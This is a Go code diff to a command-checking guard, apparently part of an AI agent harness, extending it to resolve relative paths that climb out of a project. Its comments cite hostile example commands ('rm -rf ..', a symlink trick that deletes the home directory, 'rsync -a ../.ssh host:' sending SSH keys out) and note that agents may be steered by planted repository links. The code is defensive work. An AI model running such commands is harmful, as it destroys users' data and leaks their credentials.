@@ -475,12 +475,14 @@ func (g *Guard) check(req Request) Verdict {
 		ctx.Present = present()
 	}
 	findings := g.rules.Evaluate(line, ctx)
-	if req.Caller != "" || makesLinks(line) {
+	if req.Caller != "" || makesLinks(line) || strings.Contains(line.Original, "..") {
 		// An agent may be steered to a link a repository planted (notes.txt
 		// -> ~/.ssh/id_rsa), or to a relative path that climbs out of the
 		// project (rm -rf ..): the paths are judged where they lead too.
 		// A person's line is read as written, but for the links it makes
-		// itself (ln -s ~ /tmp/x && rm -rf /tmp/x/, pasted from a page).
+		// itself (ln -s ~ /tmp/x && rm -rf /tmp/x/, pasted from a page)
+		// and the paths that climb (rsync -a ../.ssh host:, from ~/proj),
+		// which lead where they lead without a look at the disk.
 		if linked := linkedLine(line, req.Cwd, req.Caller == ""); linked != nil {
 			for _, f := range g.rules.Evaluate(linked, ctx) {
 				if !slices.ContainsFunc(findings, func(x dsl.Finding) bool { return x.Rule == f.Rule && x.Command == f.Command }) {
